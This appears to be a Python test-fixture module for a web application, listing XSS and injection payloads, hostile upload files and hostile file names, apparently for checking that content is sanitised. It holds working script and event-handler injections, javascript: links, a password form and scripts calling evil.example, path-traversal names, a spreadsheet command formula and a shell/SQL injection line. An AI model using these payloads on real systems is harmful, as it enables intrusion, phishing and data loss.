"""What strangers write when they mean harm: one of each kind, and several of the worst.

Whatever runs says so with ``alive()``, which a page defines to find out, or asks ``evil.example``
for something; whatever is built carries the class ``injected``.
"""

# ruff: noqa: E501 -- A payload broken into pieces is hard to recognise.

from collections.abc import Mapping

_DEEP = 400

PAYLOADS: Mapping[str, str] = {
    # Scripts
    "script": "<script class=injected>alive()</script>",
    "script in odd case and shape": "<ScRiPt\t/class=injected >alive()</sCrIpT\n>",
    "script from elsewhere": "<script class=injected src=//evil.example/x.js></script>",
    "script that forms when tags are stripped": "<scr<script>ipt>alive()</scr</script>ipt>",
    "script that closes what surrounds it": "\"'></title></textarea></script></style>"
    "<script class=injected>alive()</script>",
    "script half-open": "<script class=injected>alive()//",
    "script behind a comment": "<!--><script class=injected>alive()</script>-->",
    "script behind a conditional comment": "<!--[if gte IE 4]><script>alive()</script><![endif]-->",
    "script in CDATA": "<![CDATA[<script class=injected>alive()</script>]]>",
    "module script": "<script type=module class=injected>import('//evil.example/m.js')</script>",
    # Handlers
    "img onerror": "<img class=injected src=x onerror=alive()>",
    "img with slashes for blanks": "<img/class=injected/src=x/onerror=alive()>",
    "img without an end": "<img class=injected src=x onerror=alive() ",
    "autofocus onfocus": "<input class=injected autofocus onfocus=alive()>",
    "details ontoggle": "<details class=injected open ontoggle=alive()>x</details>",
    "video source onerror": "<video class=injected><source onerror=alive()></video>",
    "body onload": "<body class=injected onload=alive()>",
    "animation start": "<style>@keyframes x{}</style><b class=injected style=animation-name:x "
    "onanimationstart=alive()>x</b>",
    "attribute break-out, double": '" onmouseover="alive()" autofocus onfocus="alive()" x="',
    "attribute break-out, single": "' onmouseover='alive()' autofocus onfocus='alive()' x='",
    "attribute break-out, backtick": "`` onmouseover=alive() x=`",
    # Other worlds
    "svg onload": "<svg class=injected onload=alive()>",
    "svg script": "<svg class=injected><script>alive()</script></svg>",
    "svg animate": "<svg class=injected><animate onbegin=alive() attributeName=x dur=1s></svg>",
    "svg use": "<svg class=injected><use href='data:image/svg+xml,<svg id=x onload=alive()>#x'/></svg>",
    "math mutation": "<math class=injected><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;&lt;img src=1 onerror=alive()&gt;'>",
    "noscript mutation": "<noscript><p title='</noscript><img class=injected src=x onerror=alive()>'>",
    "template": "<template class=injected><script>alive()</script></template>",
    # Frames, forms, and what changes the page around it
    "iframe": "<iframe class=injected src=javascript:alive()></iframe>",
    "iframe srcdoc": "<iframe class=injected srcdoc='<script>parent.alive()</script>'></iframe>",
    "object and embed": "<object class=injected data=//evil.example/x></object>"
    "<embed class=injected src=//evil.example/x>",
    "form that asks for a password": "<form class=injected action=//evil.example><input name=password>"
    "<button formaction=javascript:alive()>Sign in</button></form>",
    "meta refresh": "<meta class=injected http-equiv=refresh content='0;url=//evil.example'>",
    "base": "<base class=injected href=//evil.example/>",
    "link": "<link class=injected rel=stylesheet href=//evil.example/x.css>",
    "style": "<style class=injected>*{display:none}@import '//evil.example/x.css'</style>",
    "style attribute": "<p class=injected style='position:fixed;inset:0;background:url(//evil.example/x)'>",
    "remote image": "<img class=injected src=//evil.example/pixel.gif>",
    "htmx attributes": "<b class=injected hx-get=//evil.example/x hx-trigger=load hx-on:load=alive()>x</b>",
    "data-hx attributes": "<b class=injected data-hx-post=/sign-out data-hx-trigger=load>x</b>",
    "the page's own hooks": "<div id=live class=injected data-url=//evil.example/live></div>",
    # Links
    "javascript link": "<a class=injected href=javascript:alive()>x</a> [x](javascript:alive())",
    "javascript link in odd case": "[x](JaVaScRiPt:alive()) [y]( \tjavascript:alive())",
    "javascript link by entities": "[x](&#x6A;avascript:alive()) [y](javascript&colon;alive())",
    "javascript link by control characters": "[x](\x01javascript:alive()) [y](java\tscript:alive())",
    "javascript link in angle brackets": "[x](<javascript:alive()>) <javascript:alive()>",
    "javascript link percent-encoded": "[x](%6Aavascript:alive()) [x](javascript%3Aalive())",
    "javascript link by reference": "[x][r]\n\n[r]: javascript:alive() 'x'",
    "javascript link with a title": "[x](javascript:alive() '\" onmouseover=\"alive()')",
    "javascript link that says it is another": "[https://bank.example](javascript:alive())",
    "vbscript link": "[x](vbscript:alive()) <vbscript:alive>",
    "data link": "[x](data:text/html;base64,PHNjcmlwdD5hbGl2ZSgpPC9zY3JpcHQ+)",
    "file link": "[x](file:///etc/passwd) [y](blob:http://x/1) [z](ms-word:ofe|u|//evil.example)",
    "link title break-out": '[x](https://ok.example "\\" onmouseover=\\"alive()")',
    "link text break-out": "[<img class=injected src=x onerror=alive()>](https://ok.example)",
    # Markdown
    "image": "![x](//evil.example/pixel.gif) ![x](javascript:alive()) ![x](data:image/svg+xml,<svg>)",
    "image by reference": "![x][p]\n\n[p]: https://evil.example/pixel.gif",
    "image alt break-out": '![" onerror="alive()](x)',
    "autolink": "<https://ok.example/\"onmouseover=\"alive()> https://ok.example/'onclick='alive()",
    "code fence language": '```" onmouseover="alive()\nx\n```',
    "code span": "`<script class=injected>alive()</script>`",
    "table": "| a | b |\n|---|---|\n| <img class=injected src=x onerror=alive()> | [x](javascript:alive()) |",
    "html block": "<div class=injected>\n\n<script>alive()</script>\n\n</div>",
    "nested emphasis": "*" * _DEEP + "x" + "*" * _DEEP,
    "nested quotes": "> " * _DEEP + "x",
    "nested brackets": "[" * _DEEP + "x" + "](javascript:alive())" * 10,
    "nested tags": "<b class=injected>" * _DEEP + "x",
    # Templates and texts
    "templates": "{{ 7|add:'7' }} {% debug %} {{constructor.constructor('alive()')()}} ${alive()} #{7*7}",
    "format strings": "%(secret)s {who} {0.__class__} %s %n",
    "direction override": "invoice\u202egnp.exe \u2066\u2067\u2069 safe",
    "invisible characters": "ad\u200bmin\ufeff\u00ad <scr\u200bipt class=injected>alive()</script>",
    "null bytes": "<scr\x00ipt class=injected>alive()</script> <img\x00 src=x onerror=alive()>",
    "line separators": "x\u2028<script class=injected>alive()</script>\u2029y",
    "UTF-7": "+ADw-script+AD4-alive()+ADw-/script+AD4-",
    "full-width": "\uff1cscript\uff1ealive()\uff1c/script\uff1e",
    "combining flood": "Z" + "\u0335\u0321" * 500,
    "spreadsheet formula": '=HYPERLINK("https://evil.example","x") @SUM(1) +cmd|\' /C calc\'!A0',
    "shell and SQL": "'; DROP TABLE tickets_ticket; -- $(touch /tmp/x) `id` %00",
    "terminal escapes": "\x1b]0;pwned\x07\x1b[2J",
}

HOSTILE_FILES: Mapping[str, bytes] = {
    "picture.svg": b"<svg xmlns='http://www.w3.org/2000/svg' onload='alive()'>"
    b"<script>parent.alive&amp;&amp;parent.alive()</script></svg>",
    "page.html": b"<!doctype html><script>alive()</script>",
    "page.xhtml": b"<html xmlns='http://www.w3.org/1999/xhtml'><script>alive()</script></html>",
    "polyglot.gif": b"GIF89a/*<script>alive()</script>*/=1;alive()",
    "polyglot.pdf": b"%PDF-1.7\n<script>alive()</script>",
    "notes.txt": b"\xff\xfe<\x00s\x00c\x00r\x00i\x00p\x00t\x00>\x00",
}

HOSTILE_FILE_NAMES = (
    "../../../etc/passwd",
    "..\\..\\windows\\system32\\x.exe",
    "/etc/passwd",
    ".htaccess",
    "x\x00.txt",
    "invoice\u202efdp.exe",
    "zero\u200bwidth.txt",
    "a" * 300 + ".txt",
    'x"; filename="evil.html',
    "x\r\nContent-Type: text/html\r\n\r\n<script>alive()</script>",
    "<img src=x onerror=alive()>.txt",
    "CON.txt",
    "...",
    " ",
)


def on_one_line(payload: str, limit: int) -> str:
    """The payload as a one-line field takes it: those refuse characters that deceive."""
    bad = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u2028\u2029"
    kept = (c if c.isprintable() or ord(c) > 0x9F else " " for c in payload if c not in bad)
    return " ".join("".join(kept).split())[:limit].strip()
